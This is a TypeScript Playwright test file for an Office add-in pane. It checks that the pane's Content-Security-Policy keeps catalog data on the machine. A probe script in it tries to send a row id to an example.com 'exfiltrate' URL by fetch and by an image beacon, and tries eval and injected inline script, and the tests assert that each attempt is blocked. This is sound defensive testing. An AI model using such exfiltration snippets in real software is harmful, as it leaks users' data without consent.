/**
 * Privacy: the built pane (dist/) makes no network request but office.js, and its
 * Content-Security-Policy is in force. Catalogs are often export-controlled technical data
 * themselves; nothing of them may leave the machine.
 *
 * - A full classification in Chromium, with every request recorded (the router and the context's
 *   request events, so a worker's own fetches count too): only our server and office.js.
 * - The CSP refuses what an injected script would try: fetch() to another origin rejects and no
 *   request leaves (the router sees none), an image beacon to another origin never goes out, an
 *   inline <script> added to the DOM does not run, and eval() is refused.
 */
jest.setTimeout(120_000);

import { readFileSync } from 'node:fs';
import path from 'node:path';
import { type Browser, type BrowserContext, type Page } from 'playwright-core';
import { buildBrowserFakeOffice } from '../fakes/buildBrowserFake';
import { CATALOG_GRID } from './catalogFixture';
import { launchChromium, DIST, OFFICE_JS } from './browserHarness';
import { serveDirectory, type StaticServer } from './staticServer';

const SHEET = 'Catalog';

let server: StaticServer;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let fakeOffice: string;
/** Every request the page, its workers or its frames made, in order. */
const requests: string[] = [];
/** Requests to anything but our server and office.js that reached the router (it refused each). */
const foreign: string[] = [];
/** Requests to other origins the browser announced but refused itself under the CSP (DevTools shows "(blocked:csp)"). */
const blockedByCsp: string[] = [];
/** Requests to other origins announced outside the router (a worker's own fetch, say) — each must be a CSP refusal. */
const unrouted: string[] = [];
const pageErrors: string[] = [];

/** A script served from our own origin by the router (see the CSP test). */
const PROBE_PATH = '/__csp-probe.js';
const PROBE = `
window.__probe = (async () => {
  const out = {};
  try { await fetch('https://example.com/exfiltrate?row=AC-1002', { mode: 'no-cors' }); out.fetch = 'sent'; }
  catch (e) { out.fetch = 'rejected: ' + e.name; }
  out.image = await new Promise((resolve) => {
    const img = new Image();
    img.onload = () => resolve('loaded');
    img.onerror = () => resolve('error');
    img.src = 'https://example.com/pixel.png?row=AC-1002';
  });
  try { out.eval = String(eval('1 + 1')); } catch (e) { out.eval = 'refused: ' + e.name; }
  try { out.newFunction = String(new Function('return 2')()); } catch (e) { out.newFunction = 'refused: ' + e.name; }
  const script = document.createElement('script');
  script.textContent = 'window.__inlineScriptRan = true;';
  document.body.appendChild(script);
  const holder = document.createElement('div');
  holder.innerHTML = '<img src="data:," onerror="window.__inlineHandlerRan = true">';
  document.body.appendChild(holder);
  await new Promise((resolve) => setTimeout(resolve, 200));
  out.inlineScriptRan = window.__inlineScriptRan === true;
  out.inlineHandlerRan = window.__inlineHandlerRan === true;
  return out;
})();
`;

const ours = (url: string) => url.startsWith(`${server.origin}/`) || url.startsWith('data:') || url.startsWith('blob:');

beforeAll(async () => {
  fakeOffice = await buildBrowserFakeOffice();
  server = await serveDirectory(DIST);
  browser = await launchChromium();
  context = await browser.newContext({ viewport: { width: 360, height: 900 } });
  await context.route('**/*', (route) => {
    const url = route.request().url();
    requests.push(url);
    if (url === OFFICE_JS) return route.fulfill({ status: 200, contentType: 'text/javascript; charset=utf-8', body: fakeOffice });
    if (url === `${server.origin}${PROBE_PATH}`) return route.fulfill({ status: 200, contentType: 'text/javascript; charset=utf-8', body: PROBE });
    if (ours(url)) return route.continue();
    foreign.push(url);
    return route.abort('blockedbyclient');
  });
  context.on('request', (req) => {
    const url = req.url();
    if (url !== OFFICE_JS && !ours(url) && !foreign.includes(url)) unrouted.push(url);
  });
  context.on('requestfailed', (req) => {
    // Chromium reports a CSP refusal as errorText "csp" (net::ERR_BLOCKED_BY_CSP).
    if (/^csp$|ERR_BLOCKED_BY_CSP/.test(req.failure()?.errorText ?? '')) blockedByCsp.push(req.url());
  });
  await context.addInitScript((f) => {
    (window as unknown as { __EARMARK_FIXTURE__: unknown }).__EARMARK_FIXTURE__ = f;
  }, { sheets: [{ sheetName: SHEET, grid: CATALOG_GRID }] });
  page = await context.newPage();
  page.on('pageerror', (e) => pageErrors.push(e.message));
  // Record CSP violations the page sees (the browser reports them as events, before any request).
  await page.addInitScript(() => {
    const w = window as unknown as { __cspViolations: Array<{ directive: string; blocked: string }> };
    w.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
  await page.goto(`${server.origin}/taskpane.html`);
});

afterAll(async () => {
  await context?.close();
  await browser?.close();
  await server?.close();
});

const violations = () =>
  page.evaluate(() => (window as unknown as { __cspViolations: Array<{ directive: string; blocked: string }> }).__cspViolations);

test('the production pane declares a CSP that allows no other origin for scripts, connections, frames or forms', () => {
  const html = readFileSync(path.join(DIST, 'taskpane.html'), 'utf8');
  const csp = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1];
  expect(csp).toBeDefined();
  const directives = new Map(csp!.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
  expect(directives.get('default-src')).toEqual(["'self'"]);
  expect(directives.get('connect-src')).toEqual(["'self'"]);
  expect(directives.get('script-src')).toEqual(["'self'", 'https://appsforoffice.microsoft.com']);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(directives.get('form-action')).toEqual(["'none'"]);
  // No way around it: no unsafe-eval / unsafe-inline for scripts, no wildcard anywhere.
  expect(csp).not.toMatch(/unsafe-eval|\*/);
  expect(directives.get('script-src')).not.toContain("'unsafe-inline'");
});

test('a full classification makes no request but to its own origin and office.js', async () => {
  await page.getByRole('button', { name: 'Classify sheet' }).click();
  await page.getByRole('heading', { name: 'Summary' }).waitFor({ timeout: 60_000 });
  const written = await page.evaluate(
    (s) => (window as unknown as { __EARMARK_FAKE__: { values(s: string, a: string): unknown[][] } }).__EARMARK_FAKE__.values(s, 'H2'),
    SHEET,
  );
  expect(written).toEqual([['EARmark ECCN']]);
  expect(foreign).toEqual([]);
  expect(unrouted).toEqual([]);
  expect(requests).toContain(OFFICE_JS);
  expect(requests.filter((u) => u !== OFFICE_JS).every(ours)).toBe(true);
  // The only violation a run causes: zod (the rules-pack validator) probes once whether it may
  // compile validators with Function("") and, refused, validates without — harmless, and proof
  // the policy holds. test/security/sourceScan.test.ts pins that probe as the bundle's only one.
  expect((await violations()).filter((v) => !(v.directive === 'script-src' && v.blocked === 'eval'))).toEqual([]);
  expect(pageErrors).toEqual([]);
});

test('CSP in force: a script of the page that tries to send data out, run code from text or inject a script is refused', async () => {
  // The probe is served from our own origin, so the CSP lets it run as a page script (code run
  // through DevTools, as page.evaluate does, is not held to the page's CSP) — it stands for any
  // code that found its way into the pane.
  await page.evaluate(
    (src) =>
      new Promise<void>((resolve, reject) => {
        const script = document.createElement('script');
        script.src = src;
        script.onload = () => resolve();
        script.onerror = () => reject(new Error('the probe did not load'));
        document.head.appendChild(script);
      }),
    `${server.origin}${PROBE_PATH}`,
  );
  const outcome = await page.evaluate(() => (window as unknown as { __probe: Promise<Record<string, unknown>> }).__probe);
  expect(outcome).toEqual({
    fetch: 'rejected: TypeError',
    image: 'error',
    eval: 'refused: EvalError',
    newFunction: 'refused: EvalError',
    inlineScriptRan: false,
    inlineHandlerRan: false,
  });
  // Refused by the browser before any request: the router (the way out) saw none. Chromium
  // announces the image anyway, then fails it with ERR_BLOCKED_BY_CSP.
  expect(foreign).toEqual([]);
  expect(requests.filter((u) => u.includes('example.com'))).toEqual([]);
  for (let i = 0; i < 50 && !unrouted.every((u) => blockedByCsp.includes(u)); i++) await new Promise((r) => setTimeout(r, 20));
  expect(unrouted.filter((u) => !blockedByCsp.includes(u))).toEqual([]);
  const seen = (await violations()).map((v) => `${v.directive} ${v.blocked}`);
  expect(seen).toEqual(
    expect.arrayContaining([
      'connect-src https://example.com/exfiltrate?row=AC-1002',
      'img-src https://example.com/pixel.png?row=AC-1002',
      'script-src eval',
      'script-src-elem inline',
      'script-src-attr inline',
    ]),
  );
});
